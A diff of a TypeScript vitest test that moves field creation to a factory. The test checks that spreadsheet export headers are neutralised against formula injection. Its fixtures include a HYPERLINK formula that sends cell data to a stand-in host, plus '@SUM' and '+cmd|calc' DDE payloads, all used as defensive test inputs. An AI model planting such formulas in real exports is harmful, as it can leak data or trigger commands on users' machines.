@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import { adminClient, makeTenant, testApp, testDialect, type Client, type TestApp } from '../../test/harness';
+import { makeField } from '../../test/factories';
 import type { CreatedTenant } from '../tenants/service';
 
 // Issue 11: the header row carries admins' labels, so it is neutralised against formulas
@@ -14,8 +15,8 @@ describe(`export header cells (${testDialect})`, () => {
     t = await testApp();
     a = await makeTenant(t.deps);
     admin = await adminClient(t, a);
-    expect((await admin.post('/api/1/fields/new', { name: 'linkki', label: '=HYPERLINK("http://x.example/?d="&A2)', type: 'text', visibility: 2 })).status).toBe(200);
-    expect((await admin.post('/api/1/fields/new', { name: 'komento', label: '@SUM(1+1)', type: 'text', visibility: 2 })).status).toBe(200);
+    await makeField(admin, { name: 'linkki', label: '=HYPERLINK("http://x.example/?d="&A2)', type: 'text', visibility: 2 });
+    await makeField(admin, { name: 'komento', label: '@SUM(1+1)', type: 'text', visibility: 2 });
     expect((await admin.post('/api/1/groups/new', { name: 'ryhma', label: '+cmd|calc' })).status).toBe(200);
     expect((await admin.post('/api/1/members/new', { firstname: 'Aino', lastname: 'Aalto', email: 'aino@x.fi' })).status).toBe(200);
   });
